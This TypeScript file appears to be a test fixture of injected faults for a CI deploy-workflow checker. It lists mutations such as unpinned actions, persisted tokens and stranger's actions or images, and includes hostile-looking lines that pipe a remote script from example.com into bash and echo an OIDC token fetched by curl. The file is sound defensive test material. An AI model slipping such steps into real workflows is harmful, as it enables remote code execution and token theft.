import { checkout, type Fault, inDeploy } from "./fault.ts";

/** Whose code runs, and what it does. */
export const code: readonly Fault[] = [
  [
    "rebuild",
    "prod is built anew",
    "deploy-prod",
    [inDeploy("      - name: Promote\n"), "      - run: npm run build\n      - name: Promote\n"],
  ],
  [
    "rebuild",
    "sit is deployed from source",
    "deploy-sit",
    [inDeploy("npx lambdakit promote --from dev --to sit"), "npx lambdakit deploy --env sit"],
  ],
  [
    "rebuild",
    "callers of prod are led elsewhere, for no reason",
    "deploy-prod",
    [inDeploy("npx lambdakit dr standby"), "npx lambdakit dr failover"],
  ],
  [
    "rebuild",
    "prod is tested behind the gate",
    "deploy-prod",
    [inDeploy("run: npm ci"), "run: npm ci && npm test"],
  ],
  [
    "other-command",
    "prod runs what a server says",
    "deploy-prod",
    [inDeploy("run: npm ci"), "run: curl -s https://example.com/x.sh | bash"],
  ],
  [
    "other-command",
    "a token leaves",
    "deploy-dev",
    [inDeploy("run: npm ci"), 'run: echo "$(curl "$ACTIONS_ID_TOKEN_REQUEST_URL")"'],
  ],
  [
    "other-command",
    "a pull request deploys to dev",
    "pull-request",
    ["npx lambdakit plan --env dev", "npx lambdakit deploy --env dev"],
  ],
  ["unpinned", "a tag", "deploy-prod", [checkout, "actions/checkout@v7"]],
  [
    "unpinned",
    "a branch",
    "deploy-prod",
    [/configure-aws-credentials@\w+ # .*/, "configure-aws-credentials@main"],
  ],
  ["unpinned", "a commit of which nobody knows the version", "deploy-dev", [/ # v4\.0\.1/, ""]],
  [
    "unpinned",
    "half a commit",
    "deploy-dev",
    ["3d3c42e5aac5ba805825da76410c181273ba90b1", "3d3c42e5"],
  ],
  [
    "kept-token",
    "the token stays",
    "deploy-dev",
    ["persist-credentials: false", "persist-credentials: true"],
  ],
  [
    "kept-token",
    "the token stays by default",
    "deploy-dev",
    [/ {10}persist-credentials: false\n/, ""],
  ],
  [
    "other-code",
    "another commit is checked out",
    "deploy-prod",
    [
      inDeploy("persist-credentials: false"),
      "persist-credentials: false\n          ref: $" + "{{ inputs.release }}",
    ],
  ],
  [
    "other-code",
    "another workflow is called",
    "deploy-prod",
    [
      "jobs:\n",
      "jobs:\n  other:\n    uses: acme/x/.github/workflows/y.yml@v1\n    permissions: {}\n    timeout-minutes: 5\n",
    ],
  ],
  [
    "other-code",
    "a stranger's action stands beside the role",
    "deploy-prod",
    [
      inDeploy("      - name: Promote\n"),
      `      - uses: acme/x@${"0".repeat(40)} # v1.0.0\n      - name: Promote\n`,
    ],
  ],
  [
    "other-code",
    "prod is deployed from a stranger's image",
    "deploy-prod",
    ["    environment: prod\n", "    environment: prod\n    container: { image: acme/x }\n"],
  ],
  [
    "other-code",
    "submodules are checked out",
    "deploy-dev",
    ["persist-credentials: false", "persist-credentials: false\n          submodules: true"],
  ],
];
